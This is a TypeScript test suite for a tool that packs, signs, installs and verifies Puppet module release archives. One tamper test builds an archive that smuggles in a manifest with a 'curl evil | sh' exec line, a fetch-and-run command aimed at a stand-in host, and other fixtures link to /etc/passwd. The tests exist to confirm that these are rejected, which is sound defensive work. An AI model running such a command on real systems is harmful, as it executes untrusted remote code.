import {execFileSync} from 'node:child_process'
import {generateKeyPairSync} from 'node:crypto'
import {chmod, chown, lstat, mkdir, readFile, readdir, rm, unlink, utimes, writeFile} from 'node:fs/promises'
import {join} from 'node:path'
import {gzipSync} from 'node:zlib'

import test, {type ExecutionContext} from 'ava'
import {Header} from 'tar'

import {installArchive} from '../../../src/lib/install/install-archive.js'
import {readInstallRecord} from '../../../src/lib/install/install-record.js'
import {openArchive} from '../../../src/lib/install/open-archive.js'
import {type PackResult, packRelease} from '../../../src/lib/archive/pack.js'
import {RELEASE_INDEX, SIGNATURE_FILE} from '../../../src/lib/archive/release-index.js'
import {readReleaseTree, treeDigest} from '../../../src/lib/tree/release-tree.js'
import {verifyInstalled} from '../../../src/lib/verify/verify-installed.js'
import {verifyRelease} from '../../../src/lib/verify/verify.js'
import {ConflictError, LocalpuppetError} from '../../../src/lib/errors.js'
import {readEntries, sha256, snapshot} from '../../helpers/snapshot.js'
import {type Tree, tempDir, writeReleases, writeTree} from '../../helpers/temp.js'

const APP = 'foo/tags/1.0.0'
const DEP = 'dist/tags/2.0.1'

/** The files of the release used throughout: a manifest, classes, data, an executable, nested dirs. */
const FILES: Tree = {
  [`${APP}/manifest.yaml`]: `modulepath:\n  - "${DEP}"\n`,
  [`${APP}/foo/manifests/init.pp`]: 'class foo {\n  include foo::config\n}\n',
  [`${APP}/foo/manifests/config.pp`]: 'class foo::config {}\n',
  [`${APP}/foo/files/motd`]: 'welcome\n',
  [`${APP}/foo/templates/a/b/c/deep.epp`]: '<%= $x %>\n',
  [`${APP}/bin/hook.sh`]: {mode: 0o755, content: '#!/bin/sh\nexit 0\n'},
  [`${DEP}/dist/manifests/init.pp`]: 'class dist {}\n',
  [`${DEP}/dist/files/blob.bin`]: 'binary-ish \u0000\u0001\u0002 data\n'.repeat(100),
}


/** A module dir holding the release, its files written in the order given. */
async function source(t: ExecutionContext, files: Tree = FILES, order: 'forward' | 'reverse' = 'forward'): Promise<string> {
  const dir = join(await tempDir(t, 'localpuppet-src-'), 'modules')
  const entries = Object.entries(files)
  if (order === 'reverse') entries.reverse()
  for (const [path, entry] of entries) await writeTree(dir, {[path]: entry})
  return dir
}

async function pack(t: ExecutionContext, moduleDir: string, options: {ref?: string; signingKey?: string; allowMutable?: boolean} = {}): Promise<PackResult & {output: string}> {
  const output = join(await tempDir(t, 'localpuppet-out-'), 'release.tar.gz')
  return (await packRelease({moduleDir, ref: options.ref ?? APP, output, signingKey: options.signingKey, allowMutable: options.allowMutable})) as PackResult & {output: string}
}

async function install(archive: string, moduleDir: string, trust?: string[]) {
  const {stream, label} = await openArchive(archive)
  return installArchive(stream, label, {moduleDir, trust, trustDir: null})
}

async function emptyModuleDir(t: ExecutionContext): Promise<string> {
  const dir = join(await tempDir(t, 'localpuppet-modules-'), 'modules')
  await mkdir(dir)
  return dir
}

/** Runs fn and returns the LocalpuppetError it rejects with; fails the test otherwise. */
async function refusal(t: ExecutionContext, promise: Promise<unknown>): Promise<LocalpuppetError> {
  const error = await t.throwsAsync(promise)
  if (!(error instanceof LocalpuppetError)) throw new Error(`expected a LocalpuppetError, got ${error?.stack}`)
  return error
}

/** A .tar.gz of regular file entries exactly as given. */
function gzipOf(entries: Array<{path: string; data: Buffer}>): Buffer {
  const blocks: Buffer[] = []
  for (const entry of entries) {
    const header = new Header({path: entry.path, type: 'File', mode: 0o644, size: entry.data.length, mtime: new Date(0)})
    header.encode()
    blocks.push(header.block!, entry.data, Buffer.alloc((512 - (entry.data.length % 512)) % 512))
  }

  return gzipSync(Buffer.concat([...blocks, Buffer.alloc(1024)]))
}

interface Keys {
  privateKey: string
  publicKey: string
}

async function keyPair(dir: string, name: string): Promise<Keys> {
  const {privateKey, publicKey} = generateKeyPairSync('ed25519', {
    privateKeyEncoding: {type: 'pkcs8', format: 'pem'},
    publicKeyEncoding: {type: 'spki', format: 'pem'},
  })
  await writeFile(join(dir, `${name}.key`), privateKey, {mode: 0o600})
  await writeFile(join(dir, `${name}.pem`), publicKey)
  return {privateKey: join(dir, `${name}.key`), publicKey: join(dir, `${name}.pem`)}
}

// --- determinism ------------------------------------------------------------------------

test('the same tree packs to the same bytes whatever the mtimes, modes, owners and creation order', async (t) => {
  const a = await source(t, FILES, 'forward')
  const b = await source(t, FILES, 'reverse')
  // b: other mtimes, 0600 instead of 0644 (0700 for the executable), another owner.
  for (const path of Object.keys(FILES)) {
    const full = join(b, path)
    await utimes(full, new Date('2001-02-03T04:05:06Z'), new Date('2001-02-03T04:05:06Z'))
    await chmod(full, (await lstat(full)).mode & 0o111 ? 0o700 : 0o600)
    if (process.getuid?.() === 0) await chown(full, 4321, 4321)
  }

  t.is((await lstat(join(b, `${APP}/foo/files/motd`))).mode & 0o777, 0o600)
  t.is((await lstat(join(a, `${APP}/foo/files/motd`))).mode & 0o777, 0o644)
  const first = await pack(t, a)
  const second = await pack(t, b)
  const bytes = await readFile(first.output)
  t.deepEqual(await readFile(second.output), bytes)
  t.is(first.sha256, second.sha256)
  t.is(first.sha256, sha256(bytes))
  t.is(first.bytes, bytes.length)
})

test('packing twice after touching every mtime gives the same bytes', async (t) => {
  const dir = await source(t)
  const first = await readFile((await pack(t, dir)).output)
  for (const path of Object.keys(FILES)) await utimes(join(dir, path), new Date(), new Date(Date.now() + 3_600_000))
  await utimes(join(dir, APP), new Date(), new Date(Date.now() + 7_200_000))
  t.deepEqual(await readFile((await pack(t, dir)).output), first)
})

test('a signed archive is deterministic too', async (t) => {
  const keys = await keyPair(await tempDir(t), 'release')
  const dir = await source(t)
  const first = await readFile((await pack(t, dir, {signingKey: keys.privateKey})).output)
  for (const path of Object.keys(FILES)) await utimes(join(dir, path), new Date(0), new Date(0))
  t.deepEqual(await readFile((await pack(t, dir, {signingKey: keys.privateKey})).output), first)
})

test('the archive holds release.json first, then each release\'s files sorted, with fixed metadata', async (t) => {
  const dir = await source(t)
  await chown(join(dir, `${APP}/foo/files/motd`), 4321, 4321).catch(() => {})
  const result = await pack(t, dir)
  const entries = await readEntries(await readFile(result.output))
  const appFiles = Object.keys(FILES).filter((p) => p.startsWith(`${APP}/`)).sort()
  const depFiles = Object.keys(FILES).filter((p) => p.startsWith(`${DEP}/`)).sort()
  t.deepEqual(entries.map((e) => e.path), [RELEASE_INDEX, ...appFiles, ...depFiles])
  for (const entry of entries) {
    t.is(entry.type, 'File')
    t.is(entry.mode, entry.path === `${APP}/bin/hook.sh` ? 0o755 : 0o644, entry.path)
    t.falsy(entry.uid, entry.path)
    t.falsy(entry.uname, entry.path)
  }

  const index = JSON.parse(entries[0].data.toString('utf8'))
  t.deepEqual(index.modulepath, [APP, DEP])
  t.is(index.tag, '1.0.0')
  t.is(index.releases[0].digest, treeDigest(await readReleaseTree(join(dir, APP), APP)))
})

// --- what pack refuses --------------------------------------------------------------------

test('a symlink in a release is refused by pack, naming it (65), and no archive is written', async (t) => {
  const dir = await source(t, {...FILES, [`${APP}/foo/files/link`]: {symlink: '/etc/passwd'}})
  const outDir = await tempDir(t)
  const output = join(outDir, 'out.tar.gz')
  const error = await refusal(t, packRelease({moduleDir: dir, ref: APP, output}))
  t.is(error.exitCode, 65)
  t.true(error.message.includes(`${APP}/foo/files/link`), error.message)
  t.true(error.message.includes('symbolic link'), error.message)
  t.deepEqual(await readdir(outDir), [])
})

test('a symlink in a dependency is refused by pack, naming it', async (t) => {
  const dir = await source(t, {...FILES, [`${DEP}/dist/files/up`]: {symlink: '../../..'}})
  const error = await refusal(t, pack(t, dir))
  t.is(error.exitCode, 65)
  t.true(error.message.includes(`${DEP}/dist/files/up`), error.message)
})

test('a FIFO in a release is refused by pack, naming it (65)', async (t) => {
  const dir = await source(t)
  execFileSync('mkfifo', [join(dir, APP, 'foo/files/pipe')])
  const error = await refusal(t, pack(t, dir))
  t.is(error.exitCode, 65)
  t.true(error.message.includes(`${APP}/foo/files/pipe`), error.message)
  t.true(error.message.includes('FIFO'), error.message)
})

test('packing trunk is refused (65) unless allowMutable', async (t) => {
  const dir = await source(t, {'foo/trunk/foo/manifests/init.pp': 'class foo {}\n'})
  const outDir = await tempDir(t)
  const error = await refusal(t, packRelease({moduleDir: dir, ref: 'foo/trunk', output: join(outDir, 'x.tar.gz')}))
  t.is(error.exitCode, 65)
  t.true(error.message.includes('foo/trunk'), error.message)
  t.deepEqual(await readdir(outDir), [])

  const packed = await pack(t, dir, {ref: 'foo/trunk', allowMutable: true})
  t.is(packed.index.tag, null)
  t.is(packed.release, 'foo/trunk')
})

test('packing a branch is refused (65) unless allowMutable', async (t) => {
  const dir = await source(t, {'foo/branches/wip/foo/manifests/init.pp': 'class foo {}\n'})
  t.is((await refusal(t, pack(t, dir, {ref: 'foo/branches/wip'}))).exitCode, 65)
  t.is((await pack(t, dir, {ref: 'foo/branches/wip', allowMutable: true})).release, 'foo/branches/wip')
})

test('a tag depending on trunk is refused (65) unless allowMutable', async (t) => {
  const dir = await source(t, {[`${APP}/manifest.yaml`]: 'modulepath:\n  - dist/trunk\n', 'dist/trunk/dist/manifests/init.pp': 'class dist {}\n'})
  t.is((await refusal(t, pack(t, dir))).exitCode, 65)
  t.deepEqual((await pack(t, dir, {allowMutable: true})).index.modulepath, [APP, 'dist/trunk'])
})

test('a range packs the highest matching tag', async (t) => {
  const dir = await source(t)
  await writeReleases(dir, {'foo/tags/1.2.0': null, 'foo/tags/2.0.0': null})
  const packed = await pack(t, dir, {ref: 'foo@^1'})
  t.is(packed.release, 'foo/tags/1.2.0')
  t.is(packed.index.tag, '1.2.0')
})

test('pack to a directory that does not exist: 66, not an internal error', async (t) => {
  const dir = await source(t)
  const error = await refusal(t, packRelease({moduleDir: dir, ref: APP, output: join(await tempDir(t), 'missing', 'x.tar.gz')}))
  t.is(error.exitCode, 66)
})

test('pack onto an existing directory: a usage error (64) naming it, before anything is read', async (t) => {
  const dir = await source(t)
  const outDir = await tempDir(t)
  await mkdir(join(outDir, 'taken'))
  const error = await refusal(t, packRelease({moduleDir: dir, ref: APP, output: join(outDir, 'taken')}))
  t.is(error.exitCode, 64)
  t.true(error.message.includes(join(outDir, 'taken')), error.message)
  t.deepEqual(await readdir(outDir), ['taken'])
})

// --- the round trip -----------------------------------------------------------------------

test('pack, install into an empty dir: identical files, read-only, recorded, and verify is clean', async (t) => {
  const src = await source(t)
  const packed = await pack(t, src)
  const moduleDir = await emptyModuleDir(t)
  const result = await install(packed.output, moduleDir)
  t.deepEqual(result.installed, [DEP, APP])
  t.deepEqual(result.unchanged, [])
  t.deepEqual(result.replaced, [])
  t.is(result.release, APP)
  t.is(result.signedBy, null)

  for (const release of [APP, DEP]) {
    const installed = await readReleaseTree(join(moduleDir, release), release)
    t.deepEqual(installed, await readReleaseTree(join(src, release), release))
    for (const file of installed) {
      t.deepEqual(await readFile(join(moduleDir, release, file.path)), await readFile(join(src, release, file.path)))
      t.is((await lstat(join(moduleDir, release, file.path))).mode & 0o7777, file.executable ? 0o555 : 0o444, file.path)
    }

    const dirs = [join(moduleDir, release)]
    for (const dir of dirs) {
      t.is((await lstat(dir)).mode & 0o7777, 0o555, dir)
      for (const entry of await readdir(dir, {withFileTypes: true})) if (entry.isDirectory()) dirs.push(join(dir, entry.name))
    }

    t.true(dirs.length > 1)
    const record = await readInstallRecord(moduleDir, release)
    t.is(record?.digest, packed.index.releases.find((r) => r.release === release)!.digest)
    t.like(record?.source, {type: 'archive', path: packed.output, sha256: packed.sha256})
    t.like(await verifyRelease(moduleDir, release), {release, recorded: true, ok: true, modified: [], missing: [], extra: []})
  }

  // Only the releases and localpuppet's own records: no staging, no lock.
  t.deepEqual((await readdir(moduleDir)).sort(), ['.localpuppet', 'dist', 'foo'])
  t.deepEqual(await readdir(join(moduleDir, '.localpuppet')), ['records'])
  t.true(((await verifyInstalled(moduleDir, [])).results).every((r) => r.ok))
})

test('installing the same archive twice: the second is unchanged and touches nothing', async (t) => {
  const packed = await pack(t, await source(t))
  const moduleDir = await emptyModuleDir(t)
  await install(packed.output, moduleDir)
  const before = await snapshot(moduleDir)
  const again = await install(packed.output, moduleDir)
  t.deepEqual(again.installed, [])
  t.deepEqual(again.unchanged, [DEP, APP])
  t.deepEqual(await snapshot(moduleDir), before)
})

test('a release that shares a dependency already installed: the dependency is unchanged, the app installed', async (t) => {
  const src = await source(t)
  await writeReleases(src, {'bar/tags/3.0.0': [DEP]})
  const moduleDir = await emptyModuleDir(t)
  await install((await pack(t, src)).output, moduleDir)
  const result = await install((await pack(t, src, {ref: 'bar/tags/3.0.0'})).output, moduleDir)
  t.deepEqual(result.installed, ['bar/tags/3.0.0'])
  t.deepEqual(result.unchanged, [DEP])
  t.true(((await verifyInstalled(moduleDir, [])).results).every((r) => r.ok))
})

test('a release with no files (an empty dependency) packs and installs', async (t) => {
  const src = await source(t, {[`${APP}/manifest.yaml`]: `modulepath:\n  - "${DEP}"\n`, [`${DEP}/empty-dir`]: null})
  const packed = await pack(t, src)
  t.is(packed.index.releases[1].files, 0)
  const moduleDir = await emptyModuleDir(t)
  const result = await install(packed.output, moduleDir)
  t.deepEqual(result.installed, [DEP, APP])
  // Its one empty directory is kept, as tar keeps it.
  t.deepEqual(await readdir(join(moduleDir, DEP)), ['empty-dir'])
  t.deepEqual(await readdir(join(moduleDir, DEP, 'empty-dir')), [])
  t.like(await verifyRelease(moduleDir, DEP), {ok: true, recorded: true})
  t.deepEqual((await install(packed.output, moduleDir)).unchanged, [DEP, APP])
})

test('a mutable archive (allowMutable) installs trunk unrecorded and writable, and replaces it next time', async (t) => {
  const src = await source(t, {'foo/trunk/foo/manifests/init.pp': 'class foo {}\n'})
  const packed = await pack(t, src, {ref: 'foo/trunk', allowMutable: true})
  const moduleDir = await emptyModuleDir(t)
  t.deepEqual((await install(packed.output, moduleDir)).installed, ['foo/trunk'])
  t.is(await readInstallRecord(moduleDir, 'foo/trunk'), null)
  t.not((await lstat(join(moduleDir, 'foo/trunk'))).mode & 0o200, 0)
  t.deepEqual((await install(packed.output, moduleDir)).replaced, ['foo/trunk'])
  t.is(await readFile(join(moduleDir, 'foo/trunk/foo/manifests/init.pp'), 'utf8'), 'class foo {}\n')
})

test('install into a module dir that does not exist: 66, and nothing is created', async (t) => {
  const packed = await pack(t, await source(t))
  const parent = await tempDir(t)
  const error = await refusal(t, install(packed.output, join(parent, 'missing')))
  t.is(error.exitCode, 66)
  t.deepEqual(await readdir(parent), [])
})

// --- tags are immutable ------------------------------------------------------------------

test('a different archive with the same tag: ConflictError 73 and nothing is touched', async (t) => {
  const moduleDir = await emptyModuleDir(t)
  await install((await pack(t, await source(t))).output, moduleDir)
  const before = await snapshot(moduleDir)

  // Same tag, one byte different, and a new dependency that must not appear either.
  const other = await source(t, {
    ...FILES,
    [`${APP}/manifest.yaml`]: `modulepath:\n  - "dist/tags/3.0.0"\n`,
    [`${APP}/foo/files/motd`]: 'Welcome\n',
    'dist/tags/3.0.0/dist/manifests/init.pp': 'class dist {}\n',
  })
  const packed = await pack(t, other)
  const error = await refusal(t, install(packed.output, moduleDir))
  t.true(error instanceof ConflictError)
  t.is(error.exitCode, 73)
  t.true(error.message.includes(APP), error.message)
  t.deepEqual(await snapshot(moduleDir), before)
  t.deepEqual(await readdir(join(moduleDir, 'dist/tags')), ['2.0.1'])
})

test('an installed tag modified by hand, then the same archive again: 73 naming the modification, nothing touched', async (t) => {
  const moduleDir = await emptyModuleDir(t)
  const packed = await pack(t, await source(t))
  await install(packed.output, moduleDir)
  const motd = join(moduleDir, APP, 'foo/files/motd')
  await chmod(motd, 0o644)
  await writeFile(motd, 'hacked\n')
  const before = await snapshot(moduleDir)
  const error = await refusal(t, install(packed.output, moduleDir))
  t.is(error.exitCode, 73)
  t.true(error.message.includes('modified'), error.message)
  t.deepEqual(await snapshot(moduleDir), before)
})

// --- signatures --------------------------------------------------------------------------

test('a signed archive installs with the signer trusted and reports signedBy', async (t) => {
  const keys = await keyPair(await tempDir(t), 'release')
  const packed = await pack(t, await source(t), {signingKey: keys.privateKey})
  t.regex(packed.signedBy ?? '', /^sha256:[0-9a-f]{64}$/)
  const entries = await readEntries(await readFile(packed.output))
  t.deepEqual(entries.slice(0, 2).map((e) => e.path), [RELEASE_INDEX, SIGNATURE_FILE])
  const moduleDir = await emptyModuleDir(t)
  const result = await install(packed.output, moduleDir, [keys.publicKey])
  t.is(result.signedBy, packed.signedBy)
  t.deepEqual(result.installed, [DEP, APP])
  t.is((await readInstallRecord(moduleDir, APP))?.signedBy, packed.signedBy)
})

test('an unsigned archive with a trusted key: 65 and nothing written', async (t) => {
  const keys = await keyPair(await tempDir(t), 'release')
  const packed = await pack(t, await source(t))
  const moduleDir = await emptyModuleDir(t)
  const error = await refusal(t, install(packed.output, moduleDir, [keys.publicKey]))
  t.is(error.exitCode, 65)
  t.true(error.message.includes('not signed'), error.message)
  t.deepEqual(await readdir(moduleDir), [])
})

test('an archive signed by another key: 65 and nothing written', async (t) => {
  const dir = await tempDir(t)
  const trusted = await keyPair(dir, 'trusted')
  const stranger = await keyPair(dir, 'stranger')
  const packed = await pack(t, await source(t), {signingKey: stranger.privateKey})
  const moduleDir = await emptyModuleDir(t)
  const error = await refusal(t, install(packed.output, moduleDir, [trusted.publicKey]))
  t.is(error.exitCode, 65)
  t.true(error.message.includes(packed.signedBy!), error.message)
  t.deepEqual(await readdir(moduleDir), [])
})

test('a signed archive whose release.json was altered after signing: 65 with the signer trusted', async (t) => {
  const keys = await keyPair(await tempDir(t), 'release')
  const packed = await pack(t, await source(t), {signingKey: keys.privateKey})
  const entries = await readEntries(await readFile(packed.output))
  // A consistent release.json (digest recomputed) for a smuggled file: only the signature stands in the way.
  const index = JSON.parse(entries[0].data.toString('utf8'))
  const evil = Buffer.from('exec { "curl evil | sh": }\n')
  index.releases[0].files.push({path: 'foo/manifests/evil.pp', size: evil.length, executable: false, sha256: sha256(evil)})
  index.releases[0].digest = treeDigest(index.releases[0].files)
  const altered = [{path: RELEASE_INDEX, data: Buffer.from(JSON.stringify(index, null, 1) + '\n')}, ...entries.slice(1), {path: `${APP}/foo/manifests/evil.pp`, data: evil}]
  const archive = join(await tempDir(t), 'altered.tar.gz')
  await writeFile(archive, gzipOf(altered))
  const moduleDir = await emptyModuleDir(t)
  const error = await refusal(t, install(archive, moduleDir, [keys.publicKey]))
  t.is(error.exitCode, 65)
  t.true(error.message.includes('does not verify'), error.message)
  t.deepEqual(await readdir(moduleDir), [])
})

test('a trust directory of *.pem works, other files in it are ignored', async (t) => {
  const keysDir = await tempDir(t)
  const signer = await keyPair(keysDir, 'signer')
  const another = await keyPair(keysDir, 'another')
  const trustDir = join(keysDir, 'trusted')
  await mkdir(trustDir)
  await writeFile(join(trustDir, 'another.pem'), await readFile(another.publicKey))
  await writeFile(join(trustDir, 'signer.pem'), await readFile(signer.publicKey))
  await writeFile(join(trustDir, 'README'), 'not a key\n')
  const packed = await pack(t, await source(t), {signingKey: signer.privateKey})
  const moduleDir = await emptyModuleDir(t)
  const result = await install(packed.output, moduleDir, [trustDir])
  t.is(result.signedBy, packed.signedBy)
})

test('a trust directory without the signer\'s key: 65', async (t) => {
  const keysDir = await tempDir(t)
  const signer = await keyPair(keysDir, 'signer')
  const trustDir = join(keysDir, 'trusted')
  await mkdir(trustDir)
  await keyPair(trustDir, 'another')
  await rm(join(trustDir, 'another.key'))
  const packed = await pack(t, await source(t), {signingKey: signer.privateKey})
  const moduleDir = await emptyModuleDir(t)
  t.is((await refusal(t, install(packed.output, moduleDir, [trustDir]))).exitCode, 65)
  t.deepEqual(await readdir(moduleDir), [])
})

test('a signed archive installs without trust configured (trustDir null): the signature is not required', async (t) => {
  const keys = await keyPair(await tempDir(t), 'release')
  const packed = await pack(t, await source(t), {signingKey: keys.privateKey})
  const result = await install(packed.output, await emptyModuleDir(t))
  t.is(result.signedBy, null)
  t.deepEqual(result.installed, [DEP, APP])
})

test('a trusted key path that does not exist: 66 before anything is read', async (t) => {
  const packed = await pack(t, await source(t))
  const moduleDir = await emptyModuleDir(t)
  t.is((await refusal(t, install(packed.output, moduleDir, [join(moduleDir, 'nope.pem')]))).exitCode, 66)
  t.deepEqual(await readdir(moduleDir), [])
})

test('signing with a key that is not Ed25519 is a usage error (64)', async (t) => {
  const dir = await tempDir(t)
  const {privateKey} = generateKeyPairSync('rsa', {modulusLength: 2048, privateKeyEncoding: {type: 'pkcs8', format: 'pem'}, publicKeyEncoding: {type: 'spki', format: 'pem'}})
  await writeFile(join(dir, 'rsa.key'), privateKey)
  t.is((await refusal(t, pack(t, await source(t), {signingKey: join(dir, 'rsa.key')}))).exitCode, 64)
})

// --- verify -------------------------------------------------------------------------------

test('verify lists exactly the modified, missing and extra files', async (t) => {
  const moduleDir = await emptyModuleDir(t)
  await install((await pack(t, await source(t))).output, moduleDir)
  const root = join(moduleDir, APP)
  // Content changed (same size), executable bit changed, one deleted, two added.
  await chmod(join(root, 'foo/files/motd'), 0o644)
  await writeFile(join(root, 'foo/files/motd'), 'WELCOME\n')
  await chmod(join(root, 'foo/manifests/config.pp'), 0o555)
  await chmod(join(root, 'foo/manifests'), 0o755)
  await unlink(join(root, 'foo/manifests/init.pp'))
  await chmod(join(root, 'foo/templates/a/b'), 0o755)
  await writeFile(join(root, 'foo/templates/a/b/new.epp'), 'new\n')
  await writeFile(join(root, 'foo/manifests/backdoor.pp'), 'class backdoor {}\n')

  const result = await verifyRelease(moduleDir, APP)
  t.deepEqual(result, {
    release: APP,
    recorded: true,
    ok: false,
    modified: ['foo/files/motd', 'foo/manifests/config.pp'],
    missing: ['foo/manifests/init.pp'],
    extra: ['foo/manifests/backdoor.pp', 'foo/templates/a/b/new.epp'],
    untrusted: null,
  })
  t.like(await verifyRelease(moduleDir, DEP), {ok: true})
  const all = (await verifyInstalled(moduleDir, [])).results
  t.deepEqual(all.map((r) => [r.release, r.ok]), [[DEP, true], [APP, false]])
})

test('verify counts a symlink put in place of a file as modified, and one added as extra', async (t) => {
  const moduleDir = await emptyModuleDir(t)
  await install((await pack(t, await source(t))).output, moduleDir)
  const dir = join(moduleDir, DEP, 'dist/files')
  await chmod(dir, 0o755)
  await unlink(join(dir, 'blob.bin'))
  await writeTree(dir, {'blob.bin': {symlink: '/etc/passwd'}, 'extra-link': {symlink: '/etc/hostname'}})
  t.like(await verifyRelease(moduleDir, DEP), {ok: false, modified: ['dist/files/blob.bin'], missing: [], extra: ['dist/files/extra-link']})
  // Named, too: the tag is looked at, not refused for holding a link.
  const [named] = (await verifyInstalled(moduleDir, [DEP])).results
  t.like(named, {ok: false, modified: ['dist/files/blob.bin'], extra: ['dist/files/extra-link']})
})

test('verify of a release without a record: not recorded, nothing to compare', async (t) => {
  const moduleDir = await source(t)
  t.deepEqual(await verifyRelease(moduleDir, APP), {release: APP, recorded: false, ok: true, modified: [], missing: [], extra: [], untrusted: null})
})
